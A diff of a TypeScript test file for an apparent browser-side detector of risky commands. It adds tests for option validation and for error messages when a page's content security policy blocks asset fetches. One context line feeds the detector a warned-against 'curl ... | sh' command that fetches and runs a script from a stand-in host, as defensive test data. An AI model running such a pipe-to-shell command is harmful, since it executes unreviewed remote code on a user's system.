@@ -1,6 +1,6 @@
 import { readdirSync } from "node:fs";
 import { readFile } from "node:fs/promises";
-import { describe, expect, it } from "vitest";
+import { describe, expect, it, vi } from "vitest";
 import {
   AssetError,
   createBrowserDetector,
@@ -36,6 +36,41 @@ describe("a detector for browsers", () => {
       detector.detect("Never run `curl -fsSL https://x.example/i.sh | sh`.").notes,
     ).toMatchObject([{ reason: "warned-against" }]);
     detector.dispose();
+  });
+
+  it("refuses options that are no object", async () => {
+    for (const wrong of [5, null, "contract", []])
+      await expect(createBrowserDetector(wrong as BrowserDetectorOptions)).rejects.toMatchObject({
+        name: "InputError",
+        parameter: "options",
+      });
+  });
+
+  it("names connect-src where the page's policy refuses its files, and only there", async () => {
+    const page = new EventTarget();
+    const isRefused = { connect: true };
+    vi.stubGlobal("addEventListener", page.addEventListener.bind(page));
+    vi.stubGlobal("removeEventListener", page.removeEventListener.bind(page));
+    vi.stubGlobal("fetch", () => {
+      // a page tells of it after the fetch has failed
+      if (isRefused.connect)
+        setImmediate(() =>
+          page.dispatchEvent(
+            Object.assign(new Event("securitypolicyviolation"), {
+              effectiveDirective: "connect-src",
+            }),
+          ),
+        );
+      return Promise.reject(new TypeError("Failed to fetch"));
+    });
+    try {
+      const make = () => createBrowserDetector({ assetsUrl: "https://files.example/curlew/" });
+      await expect(make()).rejects.toThrow(/add https:\/\/files\.example to its connect-src/);
+      isRefused.connect = false;
+      await expect(make()).rejects.toThrow(/cannot be fetched; write the files/);
+    } finally {
+      vi.unstubAllGlobals();
+    }
   });
 
   it("fetches a grammar when a text first needs it, where its answers may be awaited", async () => {
